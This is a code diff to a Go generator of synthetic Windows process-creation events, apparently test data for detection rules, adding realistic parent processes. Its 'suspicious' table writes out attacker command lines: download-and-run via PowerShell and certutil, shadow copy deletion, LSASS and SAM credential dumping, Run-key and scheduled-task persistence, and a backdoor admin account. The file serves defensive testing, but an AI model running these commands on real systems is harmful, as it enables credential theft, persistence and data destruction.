@@ -21,80 +21,86 @@ type proc struct {
 	// args are command-line tails; %d is replaced with a number, %u with
 	// the user's name, %h with a hex string.
 	args []string
+	// parents index the parents table: who usually starts this program.
+	parents []int
 }
 
 // benign programs seen on every Windows fleet, weighted by repetition.
 var benign = []proc{
 	{`C:\Windows\System32\svchost.exe`, "svchost.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Host Process for Windows Services",
-		[]string{"-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p -s lmhosts", "-k DcomLaunch -p", "-k UnistackSvcGroup", "-k wsappx -p -s AppXSvc", "-k LocalSystemNetworkRestricted -p -s SysMain"}},
+		[]string{"-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p -s lmhosts", "-k DcomLaunch -p", "-k UnistackSvcGroup", "-k wsappx -p -s AppXSvc", "-k LocalSystemNetworkRestricted -p -s SysMain"}, []int{1}},
 	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe", "Google LLC", "Google Chrome", "Google Chrome",
-		[]string{`--type=renderer --lang=en-US --renderer-client-id=%d --launch-time-ticks=%d --mojo-platform-channel-handle=%d /prefetch:1`, `--type=gpu-process --gpu-preferences=%h --mojo-platform-channel-handle=%d /prefetch:2`, `--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none /prefetch:8`}},
+		[]string{`--type=renderer --lang=en-US --renderer-client-id=%d --launch-time-ticks=%d --mojo-platform-channel-handle=%d /prefetch:1`, `--type=gpu-process --gpu-preferences=%h --mojo-platform-channel-handle=%d /prefetch:2`, `--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none /prefetch:8`}, []int{0, 3}},
 	{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "msedge.exe", "Microsoft Corporation", "Microsoft Edge", "Microsoft Edge",
-		[]string{`--type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id=%d /prefetch:1`, `--type=crashpad-handler "--user-data-dir=C:\Users\%u\AppData\Local\Microsoft\Edge\User Data" /prefetch:7`}},
+		[]string{`--type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id=%d /prefetch:1`, `--type=crashpad-handler "--user-data-dir=C:\Users\%u\AppData\Local\Microsoft\Edge\User Data" /prefetch:7`}, []int{0, 6}},
 	{`C:\Windows\System32\conhost.exe`, "CONHOST.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Console Window Host",
-		[]string{"0xffffffff -ForceV1", "0x4"}},
+		[]string{"0xffffffff -ForceV1", "0x4"}, []int{4}},
 	{`C:\Windows\System32\RuntimeBroker.exe`, "RuntimeBroker.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Runtime Broker",
-		[]string{"-Embedding"}},
+		[]string{"-Embedding"}, []int{5}},
 	{`C:\Windows\System32\backgroundTaskHost.exe`, "backgroundTaskHost.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Background Task Host",
-		[]string{`-ServerName:BackgroundTaskHost.WebAccountProvider`, `-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca`}},
+		[]string{`-ServerName:BackgroundTaskHost.WebAccountProvider`, `-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca`}, []int{5}},
 	{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "Outlook.exe", "Microsoft Corporation", "Microsoft Outlook", "Microsoft Outlook",
-		[]string{`/recycle`, `-Embedding`}},
+		[]string{`/recycle`, `-Embedding`}, []int{0}},
 	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "WinWord.exe", "Microsoft Corporation", "Microsoft Office", "Microsoft Word",
-		[]string{`/n "C:\Users\%u\Documents\Report Q%d.docx" /o ""`}},
+		[]string{`/n "C:\Users\%u\Documents\Report Q%d.docx" /o ""`}, []int{0}},
 	{`C:\Users\%u\AppData\Local\Microsoft\Teams\current\Teams.exe`, "Teams.exe", "Microsoft Corporation", "Microsoft Teams", "Microsoft Teams",
-		[]string{`--type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle=%d,%h --lang=en-US /prefetch:1`}},
+		[]string{`--type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle=%d,%h --lang=en-US /prefetch:1`}, []int{0, 8}},
 	{`C:\Program Files\Git\cmd\git.exe`, "git.exe", "The Git Development Community", "Git", "Git for Windows",
-		[]string{`status --porcelain`, `fetch origin`, `log --oneline -n %d`, `rev-parse HEAD`}},
+		[]string{`status --porcelain`, `fetch origin`, `log --oneline -n %d`, `rev-parse HEAD`}, []int{7, 4}},
 	{`C:\Program Files\Python312\python.exe`, "py.exe", "Python Software Foundation", "Python", "Python",
-		[]string{`-m pip list`, `C:\Users\%u\src\tools\report_%d.py --out C:\Users\%u\reports`, `manage.py runserver 8000`}},
+		[]string{`-m pip list`, `C:\Users\%u\src\tools\report_%d.py --out C:\Users\%u\reports`, `manage.py runserver 8000`}, []int{4}},
 	{`C:\Windows\System32\SearchProtocolHost.exe`, "searchprotocolhost.exe", "Microsoft Corporation", "Windows® Search", "Microsoft Windows Search Protocol Host",
-		[]string{`Global\UsGthrFltPipeMssGthrPipe%d_ Global\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon"`}},
+		[]string{`Global\UsGthrFltPipeMssGthrPipe%d_ Global\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon"`}, []int{9}},
 	{`C:\Windows\System32\taskhostw.exe`, "taskhostw.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Host Process for Windows Tasks",
-		[]string{`{%h}`, `Install $(Arg0)`}},
+		[]string{`{%h}`, `Install $(Arg0)`}, []int{2}},
 	{`C:\Program Files\Microsoft VS Code\Code.exe`, "electron.exe", "Microsoft Corporation", "Visual Studio Code", "Visual Studio Code",
-		[]string{`--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle=%d,%h /prefetch:8`}},
+		[]string{`--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle=%d,%h /prefetch:8`}, []int{0}},
 	{`C:\Windows\System32\dllhost.exe`, "dllhost.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "COM Surrogate",
-		[]string{`/Processid:{%h}`}},
+		[]string{`/Processid:{%h}`}, []int{5}},
 	{`C:\Program Files\Windows Defender\MsMpEng.exe`, "MsMpEng.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Antimalware Service Executable",
-		[]string{``}},
+		[]string{``}, []int{1}},
 	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows PowerShell",
-		[]string{`-NoProfile -File C:\Scripts\inventory_%d.ps1`, `Get-ChildItem C:\Users\%u\Documents | Measure-Object`}},
+		[]string{`-NoProfile -File C:\Scripts\inventory_%d.ps1`, `Get-ChildItem C:\Users\%u\Documents | Measure-Object`}, []int{0}},
 	{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows Command Processor",
-		[]string{`/c "C:\Program Files\Vendor\Agent\update_check.bat"`, `/d /c npm run build`}},
+		[]string{`/c "C:\Program Files\Vendor\Agent\update_check.bat"`, `/d /c npm run build`}, []int{0}},
 	{`C:\Program Files\Slack\slack.exe`, "slack.exe", "Slack Technologies, Inc.", "Slack", "Slack",
-		[]string{`--type=renderer --enable-sandbox --lang=en-US --app-path="C:\Program Files\Slack\resources\app.asar" /prefetch:1`}},
+		[]string{`--type=renderer --enable-sandbox --lang=en-US --app-path="C:\Program Files\Slack\resources\app.asar" /prefetch:1`}, []int{0}},
 	{`C:\Program Files\7-Zip\7zFM.exe`, "7zFM.exe", "Igor Pavlov", "7-Zip", "7-Zip File Manager",
-		[]string{`"C:\Users\%u\Downloads\archive_%d.zip"`}},
+		[]string{`"C:\Users\%u\Downloads\archive_%d.zip"`}, []int{0}},
 }
 
 // suspicious activity of the kind detection rules look for; about one
 // event in ten is drawn from here.
 var suspicious = []proc{
 	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows PowerShell",
-		[]string{`-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.%d/a.ps1')`}},
+		[]string{`-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.%d/a.ps1')`}, []int{0, 4}},
 	{`C:\Windows\System32\certutil.exe`, "CertUtil.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "CertUtil.exe",
-		[]string{`-urlcache -split -f http://203.0.113.%d/payload.exe C:\Users\Public\p.exe`}},
+		[]string{`-urlcache -split -f http://203.0.113.%d/payload.exe C:\Users\Public\p.exe`}, []int{0, 4}},
 	{`C:\Windows\System32\vssadmin.exe`, "VSSADMIN.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Command Line Interface for Microsoft® Volume Shadow Copy Service ",
-		[]string{`delete shadows /all /quiet`}},
+		[]string{`delete shadows /all /quiet`}, []int{0, 4}},
 	{`C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows host process (Rundll32)",
-		[]string{`C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\lsass.dmp full`}},
+		[]string{`C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\lsass.dmp full`}, []int{0, 4}},
 	{`C:\Windows\System32\whoami.exe`, "whoami.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "whoami - displays logged on user information",
-		[]string{`/all`, `/priv`}},
+		[]string{`/all`, `/priv`}, []int{0, 4}},
 	{`C:\Windows\System32\schtasks.exe`, "schtasks.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Task Scheduler Configuration Tool",
-		[]string{`/create /sc minute /mo 5 /tn Updater%d /tr "C:\Users\%u\AppData\Roaming\upd.exe" /f`}},
+		[]string{`/create /sc minute /mo 5 /tn Updater%d /tr "C:\Users\%u\AppData\Roaming\upd.exe" /f`}, []int{0, 4}},
 	{`C:\Windows\System32\reg.exe`, "reg.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Registry Console Tool",
-		[]string{`save HKLM\SAM C:\Users\Public\sam.save`, `add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\Users\Public\upd.exe /f`}},
+		[]string{`save HKLM\SAM C:\Users\Public\sam.save`, `add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\Users\Public\upd.exe /f`}, []int{0, 4}},
 	{`C:\Windows\System32\net.exe`, "net.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Net Command",
-		[]string{`user backdoor P@ssw0rd%d /add`, `localgroup administrators backdoor /add`}},
+		[]string{`user backdoor P@ssw0rd%d /add`, `localgroup administrators backdoor /add`}, []int{0, 4}},
 }
 
 var parents = []struct{ image, cmd string }{
 	{`C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`},
 	{`C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
 	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
-	{`C:\Windows\System32\userinit.exe`, `C:\Windows\system32\userinit.exe`},
 	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`},
-	{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c start.bat`},
+	{`C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe"`},
+	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`},
+	{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"`},
+	{`C:\Program Files\Microsoft VS Code\Code.exe`, `"C:\Program Files\Microsoft VS Code\Code.exe"`},
+	{`C:\Users\%u\AppData\Local\Microsoft\Teams\current\Teams.exe`, `"C:\Users\%u\AppData\Local\Microsoft\Teams\current\Teams.exe"`},
+	{`C:\Windows\System32\SearchIndexer.exe`, `C:\Windows\system32\SearchIndexer.exe /Embedding`},
 }
 
 var users = []string{"alice", "bob", "carol", "dave", "erin", "svc_backup", "frank", "grace"}
@@ -115,7 +121,9 @@ func ProcessCreation(n int, seed int64) []*event.Event {
 			p = benign[rng.IntN(len(benign))]
 		}
 		user := users[rng.IntN(len(users))]
-		parent := parents[rng.IntN(len(parents))]
+		parent := parents[p.parents[rng.IntN(len(p.parents))]]
+		parentImage := strings.ReplaceAll(parent.image, "%u", user)
+		parentCmd := strings.ReplaceAll(parent.cmd, "%u", user)
 		image := strings.ReplaceAll(p.image, "%u", user)
 		args := fill(rng, p.args[rng.IntN(len(p.args))], user)
 		cmd := `"` + image + `"`
@@ -159,8 +167,8 @@ func ProcessCreation(n int, seed int64) []*event.Event {
 				{Name: "Hashes", Value: event.S(hashes(rng))},
 				{Name: "ParentProcessGuid", Value: event.S(guid(rng))},
 				{Name: "ParentProcessId", Value: event.N(float64(pid - 1 - rng.IntN(900)))},
-				{Name: "ParentImage", Value: event.S(parent.image)},
-				{Name: "ParentCommandLine", Value: event.S(parent.cmd)},
+				{Name: "ParentImage", Value: event.S(parentImage)},
+				{Name: "ParentCommandLine", Value: event.S(parentCmd)},
 				{Name: "ParentUser", Value: event.S(account)},
 			},
 		}
